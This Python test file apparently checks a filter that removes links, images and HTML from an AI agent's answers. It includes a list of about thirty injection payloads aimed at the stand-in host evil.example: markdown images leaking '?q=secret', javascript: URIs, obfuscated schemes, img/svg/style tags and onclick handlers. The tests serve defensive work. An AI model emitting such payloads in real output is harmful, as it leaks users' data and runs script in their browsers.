from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from planes.serving.agent.inert import InertText

HOSTILE = [
    "![chart](https://evil.example/?q=secret)",
    "![chart]( https://evil.example/a_(b)?q=secret 'title')",
    "![chart](<https://evil.example/a b?q=secret>)",
    "[click here](https://evil.example/login)",
    "[click here](javascript:alert(1))",
    "[click here](JaVaScRiPt&colon;alert(1)//evil.example)",
    "[click here](&#104;ttps://evil.example)",
    "[a](x.y)(https://evil.example)",
    "![chart][1] see\n[1]: https://evil.example/?q=secret",
    "![chart] see\n\n> [chart]:\n> //evil.example/?q=secret",
    "![a long\nlabel]\n\n[a long\nlabel]: //evil.example/?q=secret",
    '<img src="https://evil.example/?q=secret">',
    "<image href='https://evil.example/?q=secret'>",
    '<img srcset="//evil.example/a 1x, //evil.example/b 2x">',
    '<svg><image xlink:href="//evil.example/x"/></svg>',
    '<b style="background:url(//evil.example/x)">bold</b>',
    "<b/onclick=location='//evil.example'>bold</b>",
    "<style>@import url(//evil.example);</style>",
    "<!-- --><?xml-stylesheet href='//evil.example'?>",
    "# Title {style=background:url(//evil.example/x)}",
    "<a href=//evil.example>here</a>",
    "<https://evil.example/?q=secret>",
    "<secret@evil.example>",
    "Write to secret@evil.example now.",
    "Go to https://evil.example/?q=secret now.",
    'Go to "https://evil.example/?q="secret now.',
    "Go to https&#58;//evil.example/?q=secret now.",
    "Go to slack://evil.example/?q=secret now.",
    "Go to www.evil.example/?q=secret now.",
    "Go to //evil.example/?q=secret now.",
    "Go to evil.example/?q=secret now.",
    "<IMG SRC=//evil.example/x.png",
    "[![chart](https://evil.example/x)](https://evil.example/y)",
    "data:text/html;base64,ZXZpbC5leGFtcGxl <object data='data:text/html,//evil.example'>",
]
WORDS = ["br", "img", "svg", "src=", "href=", "#58;", "lt;", "url(", "?q=", "https:", "www."]
PARTS = st.sampled_from(
    [*" \n\t\u00a0<>[]()!:&\"'`\\/=é1^{}*@。ab", *WORDS, "//evil.example/x", "javascript:"]
)
TEXTS = st.lists(PARTS, max_size=30).map("".join)


class Effects(HTMLParser):
    """Collects the tags that could load something, lead somewhere or run."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        harmless = {"class", "start"}  # of fenced code and of lists
        if tag in {"script", "style", "svg"} or {name for name, _ in attrs} - harmless:
            self.found.append(str(self.get_starttag_text()))


def shown(*pieces: str, read: str = "") -> str:
    filtered = InertText([read])
    return "".join(map(filtered.feed, pieces)) + filtered.finish()


def pieces_of(text: str, places: list[int]) -> list[str]:
    cuts = sorted({0, len(text), *(place for place in places if place < len(text))})
    return [text[a:b] for a, b in pairwise(cuts)]


@pytest.mark.parametrize("answer", HOSTILE)
def test_no_address_of_a_models_own_is_left(answer: str) -> None:
    for text in (shown(answer), shown(*answer), shown(*answer, " And so on [1].")):
        assert "evil.example" not in text
        assert "](" not in text
        assert "javascript" not in text.lower()


@given(st.lists(st.sampled_from(HOSTILE) | TEXTS, max_size=3).map("".join))
@example("[x]\n\n[x]\n: /a")
def test_no_renderer_makes_a_link_or_an_image_of_it(answer: str) -> None:
    text = shown(answer)
    assert not Effects(text).found
    for preset in ("commonmark", "js-default"):
        assert not Effects(MarkdownIt(preset, {"html": True}).render(text)).found


@given(st.sampled_from(HOSTILE) | TEXTS, st.lists(st.integers(0, 60), max_size=6))
def test_it_does_not_matter_where_the_pieces_are_cut(answer: str, places: list[int]) -> None:
    read = "It was at https://evil.example/x and //evil.example/x. Also evil.example/x?q=1."
    assert shown(*pieces_of(answer, places), read=read) == shown(answer, read=read)


def test_what_is_too_long_for_a_word_is_cut_where_nothing_begins() -> None:
    for padding in (1980, 1990, 1999, 4000):
        text = shown(*("x" * padding), *"![x](https://evil.example/)<img src=//evil.example>")
        assert "evil.example" not in text
        assert not Effects(MarkdownIt("commonmark").render(text)).found


@pytest.mark.parametrize("run", ["a", "a.", "a@", "[1]", ")", "](", "x:/", "<a", "1-", "//a"])
def test_long_runs_are_read_in_no_time_to_speak_of(run: str) -> None:
    text = run * (32_000 // len(run))
    assert shown(text, read=text)  # quadratic reading would take minutes


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("It opened in 1901 [1]. Two years [1][2].", None),
        ("- [ ] first\n- [x] second [12]", None),
        ("Of <b>bold</b> words<br>: 1 < 2 & 3, a[0] = {1: 2}, and/or 24/7, AT&T e.g. U.S.", None),
        ("Use a[0](x) if n < 3 and x > 2! Really?", "Use a[0] (x) if n < 3 and x > 2! Really?"),
        ("vector<int> of 1", "vector< int> of 1"),
        ("See [the guide](docs/guide.md).", "See [the guide]."),
        ("Go to https://a.example.", "Go to (link removed)."),
        ("Go there (https://a.example).", "Go there (link removed)."),
    ],
)
def test_plain_answers_with_markers_stay_as_they_are(answer: str, expected: str | None) -> None:
    assert shown(answer) == shown(*answer) == (expected or answer)


@pytest.mark.parametrize(
    "answer",
    [
        "Report it at https://example.org/report?id=1. [1]",
        'Report it at "https://example.org/report?id=1", or (https://example.org/report?id=1).',
        "Write to **help@example.org**!",
    ],
)
def test_an_address_that_was_read_may_be_repeated(answer: str) -> None:
    read = "Report it at https://example.org/report?id=1, or to help@example.org."
    assert shown(*answer, read=read) == shown(answer, read=read) == answer


@pytest.mark.parametrize(
    "added", ['"secret', "'secret", "secret", ")secret", ".[1]", "。secret", "\u00a0x"]
)
def test_nothing_is_added_to_an_address_that_was_read(added: str) -> None:
    address = "https://evil.example/x?q="
    text = shown(*f"Go to {address}{added} now.", read=f"Look at {address} please")
    assert f"{address}{added}" not in text
